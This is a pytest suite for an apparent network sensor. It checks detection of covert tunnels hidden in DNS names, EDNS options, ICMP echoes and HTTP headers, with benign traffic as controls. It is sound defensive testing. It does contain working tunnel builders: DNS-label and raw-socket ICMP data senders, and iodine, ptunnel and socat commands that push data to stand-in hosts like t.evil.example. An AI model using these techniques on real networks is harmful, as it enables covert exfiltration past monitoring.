# SPDX-License-Identifier: Apache-2.0
"""Data in what is meant for something else: names, echoes, request lines and header fields. Captures written packet by packet, then
real clients over the span; each with its ordinary twin."""
import base64
import json
import os
import random
import struct
import subprocess
import sys
import time

import lab as net
import pytest

sys.path.append(os.path.join(os.path.dirname(__file__), '..', '..', 'evasion'))
import packets  # noqa: E402
import wire as wires  # noqa: E402

LANE, OTHER_LANE, LANE6 = '10.40.3.7', '10.40.3.8', '2001:db8:40::7'
ACME, LABS, STRANGER, STRANGER6 = '203.0.113.9', '192.0.2.20', '198.51.100.9', '2001:db8:ffff::9'
CONFIG = '''sensor: {{name: e}}
image-networks: [{{name: lanes, prefixes: [10.40.0.0/16, "2001:db8:40::/48"]}}]
internal-networks: [10.0.0.0/8]
rules: [{root}/rules]
partners:
  - {{name: Acme Towing, prefixes: [203.0.113.0/24], domains: ["*.acme.example"]}}
  - {{name: Border Labs, prefixes: [192.0.2.0/24], contracts: [{{id: C-1, from: 2026-01-01, until: 2026-12-31, classes: [{classes}]}}]}}
flows: {{quiet-names: ["*.antivirus.example"]}}
{more}
'''
A, TXT, NULL, RRSIG, OPT, DNSKEY = 1, 16, 10, 46, 41, 48


@pytest.fixture
def read(tmp_path):
    def run(w, classes='"*"', more='', workers=1):
        config = tmp_path / 'gantry.yaml'
        config.write_text(CONFIG.format(root=net.ROOT, classes=classes, more=more))
        out = subprocess.run([net.GANTRY, '-q', '-c', config, '-r', w.save(tmp_path / 'c.pcap'), '-o', 'json:-', '--events', 'alert',
                              '-w', str(workers)], capture_output=True, text=True, timeout=120)
        assert out.returncode == 0, out.stderr
        return [a for a in map(json.loads, out.stdout.splitlines()) if 'rule' in a]
    return run


def opened(alerts):
    return [(a['gantry']['classes'][0], a['gantry']['partner']) for a in alerts if a['gantry']['incident']['state'] == 'opened']


# --- names ---

def encode(name):
    return b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0'


def question(name, kind=A, number=1, options=b''):
    extra = b'\0' + struct.pack('>HHIH', OPT, 1232, 0, len(options)) + options if options is not None else b''
    return struct.pack('>HHHHHH', number, 0x0100, 1, 0, 0, 1 if extra else 0) + encode(name) + struct.pack('>HH', kind, 1) + extra


def answer(name, kind, data, number=1):
    records = b''.join(b'\xc0\x0c' + struct.pack('>HHIH', k, 1, 60, len(d)) + d for k, d in data)
    return struct.pack('>HHHHHH', number, 0x8180, 1, len(data), 0, 0) + encode(name) + struct.pack('>HH', kind, 1) + records


class Resolving:
    """Questions over UDP, two a second."""

    def __init__(self, client=LANE, server=STRANGER, pause=0.5):
        self.w, self.client, self.server, self.pause, self.number = wires.Wire(), client, server, pause, 0

    def ask(self, name, kind=A, data=None, client=None, options=b''):
        self.number += 1
        ends = {'client': client or self.client, 'server': self.server, 'cport': 20000 + self.number % 40000, 'sport': 53}
        self.w.udp(0, question(name, kind, self.number & 0xffff, options), **ends)
        self.w.udp(1, answer(name, kind, [(A, b'\x0a\0\0\1')] if data is None else data, self.number & 0xffff), **ends)
        self.w.wait(self.pause)


def secret(n, seed=5):
    return base64.b32encode(random.Random(seed).randbytes(n * 5 // 8 + 5)).decode().lower().rstrip('=')[:n]


def tunnel(r, domain, octets, each=180, **more):
    text = secret(octets)
    for at in range(0, octets, each):
        piece = text[at:at + each]
        r.ask('.'.join(piece[i:i + 60] for i in range(0, len(piece), 60)) + '.' + domain, **more)
    return r


def test_labels_below_one_domain_are_a_tunnel_and_the_alert_says_what_was_seen(read):
    alerts = read(tunnel(Resolving(), 't.evil-example.co.uk', 60000).w)
    assert opened(alerts) == [('tunnel', None)]
    first = alerts[0]
    assert first['gantry']['tunnel']['way'] == 'dns' and first['gantry']['tunnel']['name'] == 'evil-example.co.uk'
    assert '% of' in first['gantry']['tunnel']['seen'] and 'labels' in first['gantry']['tunnel']['seen']
    assert first['event']['severity'] >= 8 and first['network']['protocol'] == 'dns'
    assert 'T1572' in first['threat']['technique']['id']
    assert 55000 < alerts[-1]['gantry']['incident']['bytes'] <= 62000
    assert first['@timestamp'] < alerts[-1]['@timestamp']


def test_a_resolver_inside_is_looked_at_where_it_is_a_relay(read):
    def asked(domain):
        return tunnel(Resolving(server='10.1.1.53'), domain, 60000).w
    alerts = read(asked('t.evil.example'), more='relays: [10.1.1.53]')
    assert opened(alerts) == [('tunnel', None)]
    assert alerts[0]['destination']['ip'] == '10.1.1.53' and alerts[0]['gantry']['target'].endswith('evil.example')
    assert opened(read(asked('t.evil.example'))) == []
    alerts = read(asked('t.evil.example'), more='relays: [10.1.1.80]')  # a resolver that nobody named
    assert opened(alerts) == [('tunnel', None)] and alerts[0]['gantry']['target'].endswith('evil.example')
    assert alerts[0]['gantry']['verdict'] == 'unknown' and alerts[0]['network']['direction'] == 'outbound'
    assert opened(read(asked('t.corp.example'), more='relays: [10.1.1.80]\ninternal-domains: ["*.corp.example", corp.example]')) == []
    with_readers = 'relays: [10.1.1.80]\nreaders: [{name: desk, prefixes: [10.9.0.6/32]}]'
    assert opened(read(asked('t.evil.example'), more=with_readers)) == [('tunnel', None)]
    assert opened(read(asked('t.corp.example'), more='relays: [10.1.1.53]\ninternal-domains: ["*.corp.example", corp.example]')) == []


@pytest.mark.parametrize('kind', [TXT, NULL])
def test_text_that_comes_back_below_one_domain_is_one_as_well(read, kind):
    r = Resolving()
    for i in range(100):
        r.ask(f'{secret(12, i)}.evil.example', kind, [(kind, bytes([200]) + random.Random(i).randbytes(200) * 2)])
    assert opened(read(r.w)) == [('tunnel', None)]


def test_a_tunnel_over_tcp_is_seen(read):
    w = wires.Wire()
    t = w.tcp(client=LANE, server=STRANGER, sport=53).open()
    for i in range(300):
        text = secret(180, i)
        message = question(f'{text[:60]}.{text[60:120]}.{text[120:]}.evil.example', number=i)
        t.client(struct.pack('>H', len(message)) + message)
        reply = answer('evil.example', A, [], i)
        t.server(struct.pack('>H', len(reply)) + reply)
    t.close()
    assert opened(read(w)) == [('tunnel', None)]


def test_data_in_options_of_edns_is_seen_and_cookies_are_not(read):
    r, twin = Resolving(), Resolving()
    for i in range(100):
        data = random.Random(i).randbytes(500)
        r.ask(f'q{i}.evil.example', options=struct.pack('>HH', 65001, len(data)) + data)
        twin.ask(f'q{i}.evil.example', options=struct.pack('>HH', 10, 8) + data[:8] + struct.pack('>HH', 12, 400) + bytes(400))
    assert opened(read(r.w)) == [('tunnel', None)]
    assert read(twin.w) == []


def test_many_hosts_share_one_tunnel(read):
    r = Resolving(pause=0.2)
    for i in range(400):
        r.ask(f'{secret(60, i)}.{secret(60, -i)}.evil.example', client=f'10.40.3.{i % 40 + 1}')
    assert opened(read(r.w)) == [('tunnel', None)]
    assert opened(read(r.w, workers=3)) == [('tunnel', None)]


def test_names_of_a_new_domain_each_are_held_together_by_their_resolver(read):
    r = Resolving()
    for i in range(300):
        r.ask(f'{secret(60, i)}.{secret(60, -i)}.{secret(20, i + 9000)}.com')
    alerts = read(r.w)
    assert opened(alerts) == [('tunnel', None)] and 'many domains' in alerts[0]['gantry']['tunnel']['seen']


def test_a_partners_domain_names_the_partner_and_a_star_covers_no_tunnel(read):
    assert opened(read(tunnel(Resolving(), 'x.acme.example', 40000).w)) == [('tunnel', 'Acme Towing')]
    alerts = read(tunnel(Resolving(server=LABS), 'evil.example', 40000).w)
    assert opened(alerts) == [('tunnel', 'Border Labs')] and alerts[0]['gantry']['verdict'] == 'breach'
    assert read(tunnel(Resolving(server=LABS), 'evil.example', 40000).w, classes='tunnel') == []


def test_the_bounds_are_what_the_configuration_says(read):
    small = tunnel(Resolving(), 'evil.example', 6000).w
    assert read(small) == []
    assert opened(read(small, more='tunnels: {names: 4 KiB}')) == [('tunnel', None)]
    assert read(tunnel(Resolving(), 'evil.example', 60000).w, more='tunnels: {names: 1 MiB}') == []


def test_a_flood_of_other_domains_hides_no_tunnel(read):
    r = Resolving(pause=0.1)
    text = secret(60000)
    for i in range(350):
        r.ask(f'{text[i * 150:i * 150 + 60]}.{text[i * 150 + 60:i * 150 + 120]}.evil.example')
        for k in range(20):
            r.ask(f'www.{secret(10, i * 20 + k)}.com')
        r.pause = 0
    assert opened(read(r.w)) == [('tunnel', None)]


def test_ordinary_resolving_is_silent(read):
    """Thousands of names of thousands of domains, many of one country, some again and again; block lists, reverse zones, servers of
    the software's own, answers with signatures, names of the link's own."""
    rng = random.Random(3)
    words = [secret(rng.randint(4, 11), i) for i in range(3000)]
    r = Resolving(pause=0.05)
    for i in range(4000):
        word = words[i % 3000]
        r.ask(f'www.{word}.{("com", "co.uk", "example.org", "net")[i % 4]}',
              data=[(A, b'\x0a\0\0\1'), (RRSIG, rng.randbytes(100)), (DNSKEY, rng.randbytes(260))])
        if i % 4 == 0:
            r.ask(f'host-{i % 200}.cdn.{words[i % 7]}.com')
            r.ask(f'{i % 250}.{i // 250}.113.0.203.in-addr.arpa'.replace('.0.203.', '.203.'), 12, [(12, encode('host.example'))])
            r.ask(f'{i % 250}.{i // 250}.113.203.zen.blocklist.example')
            r.ask(f'{secret(40, i)}.{secret(30, -i)}.lookup.antivirus.example', TXT, [(TXT, b'\x04none')])
    assert read(r.w) == []


def test_names_that_are_asked_again_and_again_are_silent(read):
    r = Resolving(pause=0.05)
    for i in range(3000):
        r.ask(f'sensor-number-{i % 300}.a-site-with-a-long-name.monitoring.plant.example')
    assert read(r.w) == []


def test_what_a_responder_tells_the_link_is_silent(read):
    w = wires.Wire()
    for i in range(400):
        w.udp(0, answer(f'cam-{i}.local', TXT, [(TXT, b'\xc8' + random.Random(i).randbytes(200))]), client=LANE, server='224.0.0.251',
              cport=5353, sport=5353).wait(1)
    assert read(w) == []


# --- echoes ---

def echo(w, data, client=LANE, server=STRANGER, number=1, reply=None, pause=0.1):
    """A request and what comes back: the same, if nothing else."""
    v6 = ':' in server
    for side, kind, body in ((0, 128 if v6 else 8, data), (1, 129 if v6 else 0, data if reply is None else reply)):
        a, b = (client, server) if side == 0 else (server, client)
        message = struct.pack('>BBHHH', kind, 0, 0, 77, number & 0xffff) + body
        message = packets.put_checksum(message, 2, a, b, 58) if v6 else (
            message[:2] + struct.pack('>H', packets.checksum(message)) + message[4:])
        w.packet(packets.ip(a, b, 58 if v6 else 1, message), side)
    return w.wait(pause)


def linux(w, n, size=56):
    """iputils: a time stamp, then octets that count up."""
    stamp = struct.pack('<QQ', int(w.now), int(w.now % 1 * 1e6))
    return (stamp + bytes((i + 16) & 0xff for i in range(size)))[:size]


@pytest.mark.parametrize('client, server, name', [(LANE, STRANGER, 'icmp'), (LANE6, STRANGER6, 'icmpv6')])
def test_echoes_that_carry_data_are_a_tunnel(read, client, server, name):
    w = wires.Wire()
    for i in range(40):
        echo(w, random.Random(i).randbytes(1000), client, server, i)
    alerts = read(w)
    assert opened(alerts) == [('tunnel', None)]
    assert alerts[0]['gantry']['tunnel']['way'] == 'icmp' and alerts[0]['network']['protocol'] == name
    assert 30000 < alerts[-1]['gantry']['incident']['bytes'] < 50000


def test_data_in_answers_to_echoes_is_seen_and_answers_that_repeat_what_came_are_not(read):
    w, twin = wires.Wire(), wires.Wire()
    for i in range(100):
        data = random.Random(i).randbytes(500)
        echo(w, b'ping' * 8, STRANGER, LANE, i, reply=data)
        echo(twin, linux(twin, i, 500), STRANGER, LANE, i)
    assert opened(read(w)) == [('tunnel', None)]
    assert read(twin) == []


def test_small_echoes_carry_data_as_well(read):
    w = wires.Wire()
    for i in range(1500):
        echo(w, random.Random(i).randbytes(32), number=i)
    assert opened(read(w)) == [('tunnel', None)]


@pytest.mark.parametrize('payload', [
    lambda w, i: linux(w, i), lambda w, i: linux(w, i, 1400), lambda w, i: linux(w, i, 24), lambda w, i: linux(w, i, 16),
    lambda w, i: linux(w, i, 1472 - i % 900),  # looks for the path's largest packet
    lambda w, i: b'abcdefghijklmnopqrstuvwabcdefghi',  # Windows
    lambda w, i: struct.pack('>II', int(w.now), i * 997 % 1000000) + bytes(range(8, 56)),  # BSD, macOS
    lambda w, i: struct.pack('<IIQQ', i, 0, int(w.now), i % 1000000) + bytes(32),  # fping
    lambda w, i: struct.pack('>Q', i) + b'x' * 100, lambda w, i: bytes([i % 7]) * 1000,
    lambda w, i: random.Random(1).randbytes(1400)],
    ids=['linux', 'large', 'small', 'smallest', 'path', 'windows', 'bsd', 'fping', 'numbered', 'repeated', 'random'])
def test_pings_are_silent(read, payload):
    w = wires.Wire()
    for i in range(3000):
        echo(w, payload(w, i), number=i, pause=0.05)
    assert read(w) == []


def test_pings_to_a_partner_without_a_contract_and_errors_that_quote_what_came_are_silent(read):
    w = wires.Wire()
    for i in range(200):
        echo(w, linux(w, i), server=ACME, number=i)
        quoted = packets.udp(ACME, LANE, 9, 9, random.Random(i).randbytes(400))
        message = b'\3\3\0\0\0\0\0\0' + quoted
        w.packet(packets.ip(LANE, ACME, 1, message[:2] + struct.pack('>H', packets.checksum(message)) + message[4:]))
    assert read(w) == []


# --- heads ---

def ask_http(w, target='/', fields='', server=STRANGER):
    w.tcp(client=LANE, server=server).open().client(f'GET {target} HTTP/1.1\r\nHost: a.example\r\n{fields}\r\n'.encode()).server(
        b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Type: text/plain\r\n\r\nok').close()
    w.wait(1)


def base(n, seed):
    return base64.b64encode(random.Random(seed).randbytes(n)).decode()


@pytest.mark.parametrize('one', [
    lambda i: ('/u?d=' + base(900, i).replace('+', '%2B'), ''), lambda i: ('/u?d=' + base(150, i).replace('+', '-').replace('/', '_'), ''), lambda i: ('/', f'X-Data: {base(3000, i)}\r\n'),
    lambda i: ('/', f'Cookie: id={base(3000, i)}\r\n'), lambda i: (f'/{random.Random(i).randbytes(90).hex()}.gif', ''),
    lambda i: ('/', ''.join(f'X-{k}: {base(300, i * 50 + k)}\r\n' for k in range(40))),
    lambda i: ('/', f'X-Data: {base(70000, i)}\r\n')], ids=['url', 'short base64url', 'field', 'cookie', 'path', 'fields', 'long head'])
def test_bodies_in_heads_are_a_tunnel(read, one):
    w = wires.Wire()
    for i in range(400 if len(''.join(one(0))) < 500 else 50):
        ask_http(w, *one(i))
    alerts = read(w)
    assert opened(alerts) == [('tunnel', None)]
    assert alerts[0]['gantry']['tunnel']['way'] == 'http'


def test_browsing_with_cookies_and_tokens_is_silent(read):
    rng = random.Random(9)
    session, token = base(1500, 1), base(700, 2)
    w = wires.Wire()
    for i in range(500):
        words = '-'.join(secret(rng.randint(3, 9), rng.random()) for _ in range(8))
        ask_http(w, f'/news/2026/11/29/{words}/index.html?utm_source=front&utm_campaign=autumn-{i % 9}&t={1780200000 + i}',
                 f'Cookie: session={session}; seen={i}; consent=all\r\nAuthorization: Bearer {token}\r\n'
                 f'Referer: http://a.example/news/2026/11/28/{words}/\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101\r\n'
                 f'If-None-Match: "{rng.randbytes(16).hex()}"\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9\r\n')
    assert read(w) == []


def test_heads_that_are_filled_up_are_silent(read):
    w = wires.Wire()
    for i in range(20):
        ask_http(w, '/', f'X-Pad: {"a" * 60000}\r\n' + f'X-{i}: b\r\n' * 200)
    assert read(w) == []


# --- live, with real clients ---

def tunnels(sensor):
    return [a for a in sensor.alerts() if a['gantry'].get('classes') == ['tunnel']]


def test_pings_of_every_size_are_silent_and_data_in_them_is_not(lab, sensor):
    for words in (('-c200', '-f'), ('-c100', '-i0.01', '-s1400'), ('-c60', '-i0.01', '-s16'), ('-c50', '-i0.01', '-M', 'do', '-s', '1200')):
        lab.run('lane', 'ping', '-q', *words, net.UNAPPROVED)
    time.sleep(1.5)
    assert [a for a in sensor.alerts() if a['network']['transport'] == 'icmp'] == []
    for i in range(40):
        lab.run('lane', 'ping', '-q', '-c1', '-W1', '-s', '1000', '-p', random.Random(i).randbytes(16).hex(), net.UNAPPROVED)
    time.sleep(1)
    assert tunnels(sensor) == [], 'sixteen octets of one ping are not much'
    code = ('import os,socket,struct,sys,time\n'
            's=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\n'
            'for i in range(40):\n'
            ' d=struct.pack(">BBHHH",8,0,0,7,i)+os.urandom(1000)\n'
            ' n=sum(struct.unpack(">%dH"%(len(d)//2),d)); n=(n>>16)+(n&65535); n+=n>>16\n'
            ' s.sendto(d[:2]+struct.pack(">H",~n&65535)+d[4:],(sys.argv[1],0)); time.sleep(.01)\n')
    lab.run('lane', sys.executable, '-c', code, net.UNAPPROVED)
    alert = sensor.wait_alert(lambda a: a['gantry'].get('classes') == ['tunnel'], 5)
    assert alert['gantry']['tunnel']['way'] == 'icmp' and alert['gantry']['partner'] == 'Plate Systems'


def addressed(lab, space, device):
    return device in lab.run(space, 'ip', '-o', 'addr', check=False).stdout


@pytest.mark.peers
@pytest.mark.parametrize('kind', ['NULL', 'TXT', 'CNAME', 'A'])
def test_iodine_is_a_tunnel(lab, sensor, kind, tmp_path):
    device = f'dns{os.getpid() % 1000}'
    server = lab.start('outside', 'iodined', '-f', '-c', '-P', 'secret', '-d', device, '-l', net.UNKNOWN, '10.99.0.1/28', 't.evil.example',
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    net.wait_for(lambda: addressed(lab, 'outside', device), 10, 'iodined')
    client = lab.start('lane', 'iodine', '-f', '-r', '-P', 'secret', '-d', device, '-T', kind, net.UNKNOWN, 't.evil.example',
                       stdout=open(tmp_path / 'iodine', 'w'), stderr=subprocess.STDOUT)
    try:
        net.wait_for(lambda: addressed(lab, 'lane', '10.99.0.'), 40, 'the tunnel')
        sink = lab.start('outside', 'socat', '-u', 'TCP-LISTEN:5000,bind=10.99.0.1,reuseaddr', 'OPEN:/dev/null')
        lab.wait_port('outside', '10.99.0.1', 5000)
        lab.start('lane', 'socat', '-u', '-', 'TCP:10.99.0.1:5000', stdin=subprocess.PIPE).stdin.write(random.Random(1).randbytes(60000))
        alert = sensor.wait_alert(lambda a: a['gantry'].get('classes') == ['tunnel'], 60)
        assert alert['gantry']['tunnel']['way'] == 'dns' and alert['gantry']['tunnel']['name'] == 'evil.example'
        assert lab.stop(sink) is not None
    finally:
        lab.stop(client)
        lab.stop(server)


@pytest.mark.peers
def test_ptunnel_is_a_tunnel(lab, sensor):
    proxy = lab.start('outside', 'ptunnel', '-c', 'eth0', stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    sink = lab.start('outside', 'socat', '-u', f'TCP-LISTEN:5001,bind={net.UNKNOWN},fork', 'OPEN:/dev/null')
    client = lab.start('lane', 'ptunnel', '-p', net.UNKNOWN, '-lp', '8000', '-da', net.UNKNOWN, '-dp', '5001',
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        lab.wait_port('lane', '127.0.0.1', 8000)
        sender = lab.start('lane', 'socat', '-u', '-', 'TCP:127.0.0.1:8000', stdin=subprocess.PIPE)
        sender.stdin.write(random.Random(1).randbytes(60000))
        sender.stdin.flush()
        alert = sensor.wait_alert(lambda a: a['gantry'].get('classes') == ['tunnel'], 30)
        assert alert['gantry']['tunnel']['way'] == 'icmp'
    finally:
        for process in (client, sink, proxy):
            lab.stop(process)
